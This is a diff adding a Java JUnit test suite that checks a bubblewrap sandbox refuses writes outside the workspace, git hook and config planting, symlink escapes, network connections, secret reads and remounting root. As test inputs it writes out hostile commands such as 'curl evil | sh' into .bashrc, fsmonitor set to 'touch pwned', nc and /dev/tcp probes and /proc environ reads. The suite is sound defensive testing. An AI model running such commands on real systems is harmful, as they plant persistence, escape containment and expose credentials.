@@ -1,0 +1,286 @@
+package dev.rosetta.tools.sandbox;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.StandardProtocolFamily;
+import java.net.UnixDomainSocketAddress;
+import java.nio.channels.ServerSocketChannel;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import dev.rosetta.core.testing.MachineRequirement;
+import dev.rosetta.tools.process.Executables;
+
+/** What the sandbox allows and refuses, with the real bubblewrap and real programs inside. */
+class BubblewrapSandboxTest {
+
+    /**
+     * Under the build folder, not the system temporary folder: inside the sandbox {@code /tmp} is
+     * a private folder, so what lies in the real one could not be seen at all.
+     */
+    private Path root;
+    private Path workspace;
+    private Path outside;
+    private Path config;
+    private Sandbox sandbox;
+
+    @BeforeEach
+    void setUp() throws IOException {
+        Confined.requireBubblewrap();
+        root = Confined.folderOutsideTmp();
+        workspace = Files.createDirectories(root.resolve("workspace"));
+        outside = Files.createDirectories(root.resolve("outside"));
+        config = Files.createDirectories(root.resolve("config/rosetta"));
+        Files.writeString(config.resolve("config.local.toml"), "[env]\nOPENAI_API_KEY = \"sk-in-the-config\"\n");
+        sandbox = sandbox(SandboxSettings.DEFAULT, List.of());
+    }
+
+    @AfterEach
+    void tearDown() {
+        if (sandbox != null) {
+            sandbox.close();
+        }
+        Tree.delete(root);
+    }
+
+    private Sandbox sandbox(SandboxSettings settings, List<Path> writable) {
+        SandboxPolicy policy = new SandboxPolicy(workspace, writable, List.of(config), List.of(config),
+                root.resolve("home"), NetworkAccess.OFF);
+        return Sandbox.of(settings, policy, SecretVariables.DEFAULT);
+    }
+
+    private Confined.Ran run(String script) throws Exception {
+        return Confined.run(sandbox, workspace, script);
+    }
+
+    @Test
+    void readingTheWholeFileSystemIsAllowed() throws Exception {
+        Files.writeString(outside.resolve("notes.txt"), "readable\n");
+
+        Confined.Ran ran = run("cat " + outside.resolve("notes.txt") + " && ls /usr/bin | grep -c . ");
+
+        assertThat(ran.succeeded()).as(ran.output()).isTrue();
+        assertThat(ran.output()).startsWith("readable\n");
+    }
+
+    @Test
+    void writingOutsideTheWorkspaceIsRefused() throws Exception {
+        Confined.Ran ran = run("touch " + outside.resolve("planted") + "; echo x >> " + outside.resolve("more"));
+
+        assertThat(ran.output()).contains("Read-only file system");
+        assertThat(outside.resolve("planted")).doesNotExist();
+        assertThat(outside.resolve("more")).doesNotExist();
+    }
+
+    @Test
+    void writingTheWorkspaceIsAllowed() throws Exception {
+        Confined.Ran ran = run("mkdir -p sub && echo made > sub/file.txt && cat sub/file.txt");
+
+        assertThat(ran.output()).isEqualTo("made\n");
+        assertThat(workspace.resolve("sub/file.txt")).hasContent("made");
+    }
+
+    @Test
+    void devNullAndThePrivateTempFolderWork() throws Exception {
+        Confined.Ran ran = run("echo gone > /dev/null && t=$(mktemp) && echo kept > \"$t\" && cat \"$t\" && echo $TMPDIR");
+
+        assertThat(ran.output()).isEqualTo("kept\n/tmp\n");
+    }
+
+    @Test
+    void theTempFolderIsPrivateAndSharedByTheConversationsProcesses() throws Exception {
+        run("echo from-one > /tmp/shared.txt");
+
+        assertThat(run("cat /tmp/shared.txt").output()).isEqualTo("from-one\n");
+        assertThat(Path.of("/tmp/shared.txt")).doesNotExist();
+    }
+
+    @Test
+    void gitConfigCannotBeWritten() throws Exception {
+        Files.createDirectories(workspace.resolve(".git/hooks"));
+        Files.writeString(workspace.resolve(".git/config"), "[core]\n");
+
+        Confined.Ran ran = run("echo '[core] fsmonitor = evil' >> .git/config; echo evil > .git/hooks/pre-commit;"
+                + " cat .git/config");
+
+        assertThat(ran.output()).contains("Read-only file system").endsWith("[core]\n");
+        assertThat(workspace.resolve(".git/config")).hasContent("[core]");
+        assertThat(workspace.resolve(".git/hooks/pre-commit")).doesNotExist();
+    }
+
+    /** A repository with one commit in the workspace, made outside the sandbox; {@code then} runs after {@code git init}. */
+    private void repository(String then) throws Exception {
+        MachineRequirement.require(Executables.find("git", System.getenv("PATH")).isPresent(), "git");
+        Confined.Ran init = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git init -q -b main . && "
+                + then + " && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m start");
+        assertThat(init.succeeded()).as(init.output()).isTrue();
+    }
+
+    @Test
+    void aCommitAndABranchWorkButHooksCannotBePlanted() throws Exception {
+        repository("rm -rf .git/hooks");
+
+        Confined.Ran ran = run("git switch -q -c feature && echo hi > a.txt && git add a.txt"
+                + " && git -c user.name=t -c user.email=t@t commit -q -m 'Add a' && git log --oneline | wc -l;"
+                + " mkdir -p .git/hooks; echo 'touch pwned' > .git/hooks/post-checkout; git config core.pager evil");
+
+        assertThat(ran.output()).startsWith("2\n").contains("Read-only file system");
+        assertThat(workspace.resolve(".git/hooks/post-checkout")).doesNotExist();
+        assertThat(Files.readString(workspace.resolve(".git/config"))).doesNotContain("evil");
+        sandbox.close();
+        assertThat(workspace.resolve(".git/hooks")).as("the empty mount point is gone").doesNotExist();
+    }
+
+    @Test
+    void theRepositoryCannotBeSwappedForOneWhoseConfigTheModelWrote() throws Exception {
+        repository("true");
+
+        Confined.Ran ran = run("mv .git .git-old; mkdir -p .git/hooks;"
+                + " printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config");
+        Confined.Ran after = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git status --short");
+
+        assertThat(ran.output()).contains("Device or resource busy").contains("Read-only file system");
+        assertThat(workspace.resolve(".git-old")).doesNotExist();
+        assertThat(after.succeeded()).as(after.output()).isTrue();
+        assertThat(workspace.resolve("pwned")).doesNotExist();
+    }
+
+    @Test
+    void aMissingGitCannotBeCreatedAndLeavesNothingBehind() throws Exception {
+        Confined.Ran ran = run("mkdir -p .git/hooks; git init -q . ; ls -A .git | wc -l");
+
+        assertThat(ran.output()).contains("Read-only file system").endsWith("0\n");
+        sandbox.close();
+        assertThat(workspace.resolve(".git")).doesNotExist();
+    }
+
+    @Test
+    void rosettaProjectFilesInTheWorkspaceAreReadOnly() throws Exception {
+        Files.writeString(workspace.resolve("rosetta.toml"), "[tools]\n");
+        Files.createDirectories(workspace.resolve(".rosetta"));
+
+        Confined.Ran ran = run("echo '[permissions]' >> rosetta.toml; touch .rosetta/x");
+
+        assertThat(ran.output()).contains("Read-only file system");
+        assertThat(workspace.resolve("rosetta.toml")).hasContent("[tools]");
+        assertThat(workspace.resolve(".rosetta/x")).doesNotExist();
+    }
+
+    @Test
+    void aSymlinkSwappedIntoTheWorkspaceCannotCarryAWriteOut() throws Exception {
+        Path bashrc = Files.writeString(Files.createDirectories(root.resolve("home")).resolve(".bashrc"), "# mine\n");
+        Files.writeString(workspace.resolve("notes.txt"), "notes\n");
+
+        run("rm notes.txt && ln -s " + bashrc + " notes.txt");
+        Confined.Ran ran = run("echo 'curl evil | sh' >> notes.txt; ln -sf " + bashrc.getParent() + " dir;"
+                + " echo x > dir/.profile");
+
+        assertThat(ran.output()).contains("Read-only file system");
+        assertThat(bashrc).hasContent("# mine");
+        assertThat(bashrc.resolveSibling(".profile")).doesNotExist();
+    }
+
+    @Test
+    void rosettasConfigFolderCannotBeRead() throws Exception {
+        Confined.Ran ran = run("ls -A " + config + "; cat " + config.resolve("config.local.toml"));
+
+        assertThat(ran.output()).doesNotContain("sk-in-the-config").contains("No such file or directory");
+    }
+
+    @Test
+    void theNetworkIsOff() throws Exception {
+        MachineRequirement.require(Executables.find("nc", System.getenv("PATH")).isPresent()
+                && Executables.find("curl", System.getenv("PATH")).isPresent(), "nc and curl (apt-get install netcat-openbsd curl)");
+
+        Confined.Ran curl = run("curl -sS --max-time 20 https://example.com");
+        Confined.Ran nc = run("echo hi | nc -w 5 1.1.1.1 53");
+        Confined.Ran tcp = run("exec 3<>/dev/tcp/1.1.1.1/80");
+        Confined.Ran dns = run("getent hosts example.com");
+
+        assertThat(curl.succeeded()).as(curl.output()).isFalse();
+        assertThat(curl.output()).contains("Could not resolve host");
+        assertThat(nc.succeeded()).as(nc.output()).isFalse();
+        assertThat(tcp.succeeded()).as(tcp.output()).isFalse();
+        assertThat(tcp.output()).contains("Network is unreachable");
+        assertThat(dns.succeeded()).as(dns.output()).isFalse();
+    }
+
+    @Test
+    void aLoopbackServerOfTheMachineIsReachableOnlyWithTheNetworkOn() throws Exception {
+        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
+            String probe = "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + " && echo connected";
+
+            Confined.Ran off = run(probe);
+            sandbox.close();
+            sandbox = sandbox(SandboxSettings.DEFAULT.withNetwork(NetworkAccess.ON), List.of());
+            Confined.Ran on = run(probe);
+
+            assertThat(off.output()).doesNotContain("connected").contains("Connection refused");
+            assertThat(on.output()).contains("connected");
+        }
+    }
+
+    @Test
+    void unixSocketsOfTheMachineCannotBeReached() throws Exception {
+        Path socket = outside.resolve("daemon.sock");
+        try (ServerSocketChannel daemon = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
+            daemon.bind(UnixDomainSocketAddress.of(socket));
+
+            Confined.Ran ran = run("python3 -c \"import socket; s = socket.socket(socket.AF_UNIX);"
+                    + " s.connect('" + socket + "'); print('connected')\"");
+
+            assertThat(ran.output()).doesNotContain("connected").contains("PermissionError");
+        }
+    }
+
+    @Test
+    void procShowsOnlyTheSandboxNotRosetta() throws Exception {
+        Confined.Ran ran = run("ls /proc | grep -c '^[0-9]' ; cat /proc/$PPID/cmdline | tr '\\0' ' '; echo;"
+                + " cat /proc/" + ProcessHandle.current().pid() + "/environ 2>&1 | head -c 200");
+
+        List<String> lines = ran.output().lines().toList();
+        assertThat(Integer.parseInt(lines.get(0).strip())).isLessThan(10);
+        assertThat(lines.get(1)).contains("bwrap");
+        assertThat(ran.output()).doesNotContain("PATH=");
+    }
+
+    @Test
+    void theEnvironmentHoldsNoKey() throws Exception {
+        Confined.Ran ran = Confined.run(sandbox, workspace, "env; cat /proc/self/environ; cat /proc/$PPID/environ;"
+                + " cat /proc/1/environ", Map.of("OPENAI_API_KEY", "sk-test-openai", "MYPROV_TOKEN", "tok-test",
+                        "AWS_SECRET_ACCESS_KEY", "aws-test", "HARMLESS", "visible"));
+
+        assertThat(ran.output()).contains("HARMLESS=visible").contains("ROSETTA_SANDBOX=bubblewrap")
+                .doesNotContain("sk-test-openai").doesNotContain("tok-test").doesNotContain("aws-test");
+    }
+
+    @Test
+    void foldersTheUserAddsAreWritable() throws Exception {
+        Path cache = Files.createDirectories(root.resolve("cache"));
+        sandbox.close();
+        sandbox = sandbox(SandboxSettings.DEFAULT, List.of(cache));
+
+        Confined.Ran ran = run("echo cached > " + cache.resolve("entry") + " && echo ok");
+
+        assertThat(ran.output()).isEqualTo("ok\n");
+        assertThat(cache.resolve("entry")).hasContent("cached");
+    }
+
+    @Test
+    void nothingCanRemountTheRootWritable() throws Exception {
+        Confined.Ran ran = run("mount -o remount,rw / 2>&1; touch " + outside.resolve("x") + " 2>&1;"
+                + " grep CapEff /proc/self/status");
+
+        assertThat(outside.resolve("x")).doesNotExist();
+        assertThat(ran.output()).contains("CapEff:\t0000000000000000");
+    }
+}
